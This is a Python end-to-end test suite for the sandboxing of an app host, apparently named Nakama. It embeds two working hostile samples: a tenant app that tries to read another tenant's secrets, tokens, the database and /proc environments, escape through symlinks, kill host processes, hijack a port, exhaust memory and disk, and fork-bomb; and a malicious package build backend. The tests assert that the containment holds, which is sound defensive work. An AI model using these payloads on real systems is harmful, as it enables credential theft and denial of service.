"""Two users' apps on one ``nakama up``, and Bob's is hostile: it tries to read Nakama's
database, keys and tokens, Alice's code, data, log and secret, other processes' environments;
to escape through symlinks committed in its repository; to signal Nakama and Alice's app, to
take or reach Alice's port; then to fill memory, spawn processes without end and fill its disk.
It serves what it managed to read. It reads nothing of Alice's or Nakama's, its limits stop it,
its stop reasons are reported, and Nakama and Alice's app go on serving.

A hostile package build (a ``setup.py``-style backend in Bob's dependencies) gets the same: no
Nakama environment, nothing of the data dir, and nothing it starts outlives the build.

Runs for real: bubblewrap, cgroups (or rlimits), iptables as root."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from backend.local.supervisor import listener_uids
from tests.e2e.nakama_server import (
    ADMIN_TOKEN,
    NakamaProcess,
    app_request,
    clone,
    gateway_target,
    git,
    git_push,
    running,
    wait_for,
    write_tiny_kit,
)
from tests.e2e.test_variables import user
from tests.support import serve_directory, write_sdist

ALICE_SECRET = "sk_live_ALICE_TOPSECRET_987654"
ALICE_APP, BOB_APP = "alice-app", "bob-app"

# Bob's app. GET /loot tries everything and answers what it got; /hog, /forkbomb and /fill try
# the limits. TARGETS names host pids to signal, ALICE_PORT the port Alice's app listens on.
HOSTILE_APP = r"""
import glob, json, os, signal, socket, sys, time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

VICTIM = None

def attempt(what, fn):
    try:
        got = fn()
    except BaseException as exc:  # noqa
        return {"what": what, "ok": False, "result": f"{type(exc).__name__}: {exc}"[:200]}
    return {"what": what, "ok": True, "result": str(got)[:2000]}

def read(path):
    with open(path, "rb") as f:
        return f.read(4096).decode(errors="replace")

def data_dir():
    parts = Path(os.getcwd()).resolve().parts
    return Path(*parts[: parts.index("apps")])

def loot():
    data = data_dir()
    found = [{"what": "uid", "ok": True, "result": str(os.getuid())}]
    paths = ["nakama.db", "nakama.db-wal", "session-secret", "admin-token", "secrets.key",
             f"git/{VICTIM}.git/config", f"git/{VICTIM}.git/nakama/hook-token",
             f"apps/{VICTIM}/code/current/app.py", f"apps/{VICTIM}/app.log",
             f"apps/{VICTIM}/data/home/.streamlit/secrets.toml"]
    for rel in paths:
        found.append(attempt(f"read {rel}", lambda p=data / rel: read(p)))
    for rel in ["", "apps", f"apps/{VICTIM}", f"apps/{VICTIM}/data", "envs", "logs", "git"]:
        found.append(attempt(f"list {rel or 'data dir'}", lambda p=data / rel: os.listdir(p)))
    for link in sorted(Path(".").glob("escape-*")):
        found.append(attempt(f"follow {link}", lambda p=link: read(p)))
    environs = {}
    for path in glob.glob("/proc/*/environ"):
        try:
            environs[path] = read(path)
        except OSError:
            pass
    found.append({"what": "environs", "ok": True, "result": json.dumps(environs)})
    found.append({"what": "own env", "ok": True,
                  "result": json.dumps({k: v for k, v in os.environ.items()})})
    for pid in os.environ.get("TARGETS", "").split(","):
        found.append(attempt(f"signal {pid}", lambda p=int(pid): os.kill(p, signal.SIGKILL)))
    port = int(os.environ["ALICE_PORT"])
    def bind():
        s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("127.0.0.1", port)); s.listen(); return "bound"
    found.append(attempt("bind alice's port", bind))
    def connect():
        with socket.create_connection(("127.0.0.1", port), timeout=3) as s:
            s.sendall(b"GET / HTTP/1.0\r\n\r\n"); return s.recv(4096).decode(errors="replace")
    found.append(attempt("connect to alice's port", connect))
    return found

def hog():
    chunks = []
    while True:
        chunks.append(bytearray(8 << 20))
        for i in range(0, len(chunks[-1]), 4096):
            chunks[-1][i] = 1

def forkbomb():
    started = 0
    try:
        for _ in range(100000):
            if os.fork() == 0:
                os.setsid(); time.sleep(4); os._exit(0)
            started += 1
    except OSError as exc:
        return {"started": started, "stopped_by": str(exc)}
    return {"started": started, "stopped_by": None}

def fill():
    data = Path(os.environ["DATA_DIR"])
    out = {}
    try:
        with open(data / "big", "wb") as f:
            for _ in range(64):
                f.write(b"x" * (1 << 20))
        out["big"] = "wrote 64 MiB"
    except OSError as exc:
        out["big"] = f"{type(exc).__name__}: {exc}"
    (data / "big").unlink(missing_ok=True)
    written = 0
    for i in range(6):
        try:
            (data / f"part-{i}").write_bytes(b"y" * (3 << 20))
            written += 1
        except OSError as exc:
            out[f"part-{i}"] = str(exc)
    out["parts"] = written
    return out

class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        if self.path == "/loot":
            body = json.dumps(loot())
        elif self.path == "/hog":
            hog()
        elif self.path == "/forkbomb":
            body = json.dumps(forkbomb())
        elif self.path == "/fill":
            body = json.dumps(fill())
        else:
            body = "bob"
        data = body.encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
    def log_message(self, *a):
        pass

ThreadingHTTPServer(("127.0.0.1", int(os.environ["PORT"])), Handler).serve_forever()
"""


@pytest.fixture
def nakama(tmp_path: Path, uv_cache: Path) -> Iterator[NakamaProcess]:
    kit = write_tiny_kit(tmp_path / "kit")
    env = {
        "NAKAMA_RUNTIME__DISK_CHECK_INTERVAL_S": "1",
        "NAKAMA_GATEWAY__IDLE_CHECK_INTERVAL_S": "0.5",
        "NAKAMA_RUNTIME__RESTART_BACKOFF_INITIAL_S": "0.5",
    }
    with running(tmp_path / "data", starter_kit=kit, uv_cache=uv_cache, extra_env=env) as server:
        yield server


People = dict[str, tuple[str, httpx.Client]]


@pytest.fixture
def people(nakama: NakamaProcess) -> Iterator[People]:
    """alice and bob, each with a token and an API client of their own."""
    made = {name: user(nakama, name) for name in ("alice", "bob")}
    yield made
    for _, client in made.values():
        client.close()


def app_url(server: NakamaProcess, name: str) -> str:
    return str(server.project(name)["app_url"]).rstrip("/")


def running_app(server: NakamaProcess, name: str) -> dict[str, object]:
    def up() -> dict[str, object] | None:
        p = server.project(name)
        return p if p["status"] == "running" and p["app_state"] == "running" else None

    return dict(wait_for(up, timeout=120, interval=0.1, what=f"{name} running"))


def both_running(server: NakamaProcess, alice: httpx.Client, bob: httpx.Client) -> None:
    """Alice's app (with a secret variable) and Bob's, each made by its owner, running."""
    assert alice.post("/api/v1/projects", json={"name": ALICE_APP}).status_code == 201
    r = alice.put(
        f"/api/v1/projects/{ALICE_APP}/variables/STRIPE_KEY",
        json={"value": ALICE_SECRET, "secret": True},
    )
    assert r.status_code == 200, r.text
    running_app(server, ALICE_APP)
    assert bob.post("/api/v1/projects", json={"name": BOB_APP}).status_code == 201
    running_app(server, BOB_APP)


def alice_port(server: NakamaProcess) -> int:
    uid = int((server.data_dir / "apps" / ALICE_APP / "sandbox-uid").read_text())
    start = int(server.env["NAKAMA_RUNTIME__PORT_RANGE_START"])
    ports = [p for p in range(start, start + 100) if uid in listener_uids(p)]
    assert len(ports) == 1, ports
    return ports[0]


def serves_alice(server: NakamaProcess, token: str) -> bool:
    r = app_request(app_url(server, ALICE_APP) + "/", token=token, timeout=5)
    return r.status_code == 200 and r.text.startswith("v1")


@pytest.mark.skipif(os.geteuid() != 0, reason="one uid per app and the port rule need root")
def test_a_hostile_app_reads_nothing_of_alices_or_nakamas_and_its_limits_hold(
    nakama: NakamaProcess, people: People, tmp_path: Path
) -> None:
    (alice_token, alice), (bob_token, bob) = people["alice"], people["bob"]
    both_running(nakama, alice, bob)
    limits = {"memory_mib": 96, "processes": 48, "disk_mib": 8}
    r = nakama.api.put(f"/api/v1/projects/{BOB_APP}/limits", json=limits)
    assert r.status_code == 200, r.text
    # Bob cannot raise his own limits.
    r = bob.put(f"/api/v1/projects/{BOB_APP}/limits", json={"memory_mib": 4096})
    assert r.status_code == 403, r.text

    nakama_pid = nakama.proc.pid if nakama.proc else 0
    alice_pid = int((nakama.data_dir / "apps" / ALICE_APP / "app.pid").read_text())
    port = alice_port(nakama)
    for key, value in {"TARGETS": f"{nakama_pid},{alice_pid}", "ALICE_PORT": str(port)}.items():
        r = bob.put(f"/api/v1/projects/{BOB_APP}/variables/{key}", json={"value": value})
        assert r.status_code == 200, r.text

    work = clone(nakama, BOB_APP, tmp_path / "bob")
    (work / "app.py").write_text(HOSTILE_APP.replace("VICTIM = None", f"VICTIM = {ALICE_APP!r}"))
    data = nakama.data_dir.resolve()
    for depth in range(1, 8):
        (work / f"escape-{depth}").symlink_to("../" * depth + "nakama.db")
    (work / "escape-abs-db").symlink_to(data / "nakama.db")
    (work / "escape-abs-alice").symlink_to(data / "apps" / ALICE_APP / "code" / "current")
    git("add", "-A", cwd=work)
    git("commit", "-qm", "hostile", cwd=work)
    git_push(work)
    nakama.wait_deployed(BOB_APP, git("rev-parse", "HEAD", cwd=work))
    running_app(nakama, BOB_APP)
    bob_url = app_url(nakama, BOB_APP)

    r = app_request(bob_url + "/loot", token=bob_token, timeout=30)
    assert r.status_code == 200, r.text
    results = {item["what"]: item for item in r.json()}
    text = r.text
    # Nothing secret, in any form, came back.
    for needle in (ALICE_SECRET, ADMIN_TOKEN, alice_token, "SQLite format", "STRIPE_KEY"):
        assert needle not in text, needle
    bob_uid = int((nakama.data_dir / "apps" / BOB_APP / "sandbox-uid").read_text())
    assert results["uid"]["result"] == str(bob_uid) and bob_uid != 0
    for what, item in results.items():
        if what.startswith(("read ", "follow ", "signal ")) or what in (
            "bind alice's port",
            "connect to alice's port",
        ):
            assert not item["ok"], (what, item)
        if what.startswith("list "):
            # Only the directories its own binds need exist, and they hold only its own.
            assert not item["ok"] or ALICE_APP not in item["result"] or what == "list apps", item
    listed_apps = results["list apps"]
    assert not listed_apps["ok"] or json.loads(listed_apps["result"].replace("'", '"')) == [
        BOB_APP
    ], listed_apps
    environs = json.loads(results["environs"]["result"])
    assert all("NAKAMA" not in env and ALICE_SECRET not in env for env in environs.values())
    own = json.loads(results["own env"]["result"])
    assert not [k for k in own if k.startswith("NAKAMA")]
    assert own["DATA_DIR"].endswith(f"apps/{BOB_APP}/data") and own["HOME"].startswith(
        own["DATA_DIR"]
    )
    assert "Connection" in results["connect to alice's port"]["result"] or "reset" in (
        results["connect to alice's port"]["result"].lower()
    )
    assert httpx.get(f"{nakama.url}/healthz", timeout=5).status_code == 200
    assert serves_alice(nakama, alice_token)

    # A fork bomb stays inside its limit.
    r = app_request(bob_url + "/forkbomb", token=bob_token, timeout=60)
    assert r.status_code == 200, r.text
    bomb = r.json()
    assert bomb["stopped_by"] is not None and bomb["started"] < limits["processes"], bomb
    assert httpx.get(f"{nakama.url}/healthz", timeout=5).status_code == 200
    assert serves_alice(nakama, alice_token)

    # Memory: the kernel kills it at its limit; Nakama says why and restarts it.
    target, headers = gateway_target(bob_url + "/hog", token=bob_token)
    with httpx.Client(timeout=60) as client, pytest.raises(httpx.HTTPError):
        client.get(target, headers=headers).raise_for_status()

    def oom_reported() -> str | None:
        detail = str(nakama.project(BOB_APP).get("app_detail"))
        return detail if "out of memory (limit 96 MiB)" in detail else None

    wait_for(oom_reported, timeout=60, interval=0.2, what="the out-of-memory stop reported")
    running_app(nakama, BOB_APP)
    assert serves_alice(nakama, alice_token)

    # Disk: no single file past the limit; past it in total, the app is stopped and says why.
    r = app_request(bob_url + "/fill", token=bob_token, timeout=60)
    assert r.status_code == 200, r.text
    filled = r.json()
    assert "File too large" in filled["big"], filled

    def disk_stop() -> str | None:
        p = nakama.project(BOB_APP)
        said = f"{p.get('app_state')}: {p.get('app_detail')}"
        return said if said.startswith("stopped: stopped: data directory over its limit") else None

    wait_for(disk_stop, timeout=60, interval=0.2, what="the disk-limit stop reported")
    usage = nakama.api.get(f"/api/v1/projects/{BOB_APP}/limits").json()
    assert usage["data_bytes"] > 8 << 20 and usage["limits"]["disk_mib"] == 8, usage
    assert httpx.get(f"{nakama.url}/healthz", timeout=5).status_code == 200
    assert serves_alice(nakama, alice_token)
    log = nakama.log_path.read_text(errors="replace")
    assert ALICE_SECRET not in log and alice_token not in log

    # Deleting the project ends everything it ever started.
    r = app_request(bob_url + "/", token=bob_token, timeout=5)  # (stopped: no answer needed)
    assert nakama.api.delete(f"/api/v1/projects/{BOB_APP}").status_code == 202
    wait_for(
        lambda: not (nakama.data_dir / "apps" / BOB_APP).exists(), timeout=60, what="bob's app gone"
    )
    try:
        wait_for(lambda: not _running_as(bob_uid), timeout=30, what="no process of bob's uid left")
    except AssertionError as exc:
        raise AssertionError(f"{exc}: {_running_as(bob_uid)}") from None
    assert serves_alice(nakama, alice_token)


# A build backend that looks for Nakama's data and environment, forks a process that tries to
# outlive the build, and fails (as a broken package would).
EVIL_BACKEND = r"""
import glob, os, sys, time

def _loot():
    env = {k: v for k, v in os.environ.items() if "NAKAMA" in k or "TOKEN" in k}
    sys.stderr.write(f"EVIL uid={os.getuid()} env={env}\n")
    for pattern in ["/proc/*/environ", DATA + "/*", DATA + "/apps/*/data/*", "/root/*"]:
        sys.stderr.write(f"EVIL glob {pattern}: {glob.glob(pattern)[:20]}\n")
    for path in [DATA + "/nakama.db", DATA + "/admin-token", DATA + "/secrets.key"]:
        try:
            sys.stderr.write(f"EVIL READ {path}: {open(path, 'rb').read(64)!r}\n")
        except OSError as exc:
            sys.stderr.write(f"EVIL denied {path}: {type(exc).__name__}\n")
    if os.fork() == 0:
        os.setsid()
        time.sleep(60)
        os._exit(0)

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _loot()
    raise SystemExit("EVIL: refusing to build")
"""


@pytest.fixture
def evil_sdist(tmp_path: Path, nakama: NakamaProcess) -> Iterator[str]:
    """The URL of a hostile sdist, served on loopback."""
    data = str(nakama.data_dir.resolve())
    pyproject = (
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        '[project]\nname = "evilpkg"\nversion = "1.0"\n'
    )
    files = {"pyproject.toml": pyproject, "backend.py": EVIL_BACKEND.replace("DATA", repr(data))}
    sdist = write_sdist(tmp_path / "served", "evilpkg", "1.0", files)
    with serve_directory(sdist.parent) as base:
        yield f"{base}/{sdist.name}"


def test_a_hostile_package_build_sees_nothing_and_leaves_nothing_running(
    nakama: NakamaProcess, people: People, evil_sdist: str, tmp_path: Path
) -> None:
    (alice_token, alice), (_, bob) = people["alice"], people["bob"]
    both_running(nakama, alice, bob)

    work = clone(nakama, BOB_APP, tmp_path / "bob")
    (work / "requirements.txt").write_text(f"evilpkg @ {evil_sdist}\n")
    git("add", "-A", cwd=work)
    git("commit", "-qm", "a hostile dependency", cwd=work)
    git_push(work)
    failed = nakama.wait_failed(BOB_APP, git("rev-parse", "HEAD", cwd=work), timeout=180)
    log = bob.get(f"/api/v1/projects/{BOB_APP}/pipelines/{failed['id']}/log").text
    evil = [line for line in log.splitlines() if "EVIL" in line]
    assert any("EVIL uid=" in line for line in evil), log[-3000:]  # it did run
    assert any("env={}" in line for line in evil), evil
    assert not any("EVIL READ" in line for line in evil), evil
    assert all("NAKAMA_" not in line and ADMIN_TOKEN not in line for line in log.splitlines())
    assert ALICE_SECRET not in log and ALICE_SECRET not in str(failed)
    for line in evil:
        if "EVIL glob" in line:
            assert ALICE_APP not in line and "nakama.db" not in line, line
    # What the build forked (in its own session) ended with it.
    bob_uid = int((nakama.data_dir / "apps" / BOB_APP / "sandbox-uid").read_text())
    if os.geteuid() == 0:

        def build_processes() -> list[str]:
            return [
                pid
                for pid in os.listdir("/proc")
                if pid.isdigit()
                and _uid_of(int(pid)) == bob_uid
                and "backend" in _cmdline(int(pid))
            ]

        # The kernel ends the sandbox's processes as the build returns; it sleeps for 60 s.
        wait_for(lambda: not build_processes(), timeout=15, what="the build's processes to end")
    # The old version goes on serving; Alice's app and Nakama too.
    assert app_request(app_url(nakama, BOB_APP) + "/", timeout=5).status_code == 200
    assert serves_alice(nakama, alice_token)
    assert httpx.get(f"{nakama.url}/healthz", timeout=5).status_code == 200


def _running_as(uid: int) -> list[str]:
    """The processes of ``uid`` that still run, with their state and command line. A zombie
    has ended: only its parent's wait is missing, and an orphan's parent is the machine's init,
    which may reap late (a loaded CI machine showed this)."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and _uid_of(int(entry)) == uid:
            state = _state_of(int(entry))
            if state not in (None, "Z"):
                found.append(f"{entry} {state} {_cmdline(int(entry))[:80]}")
    return found


def _state_of(pid: int) -> str | None:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("State:"):
                return line.split()[1]
    except OSError:
        return None
    return None


def _uid_of(pid: int) -> int | None:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("Uid:"):
                return int(line.split()[1])
    except OSError:
        return None
    return None


def _cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
    except OSError:
        return ""
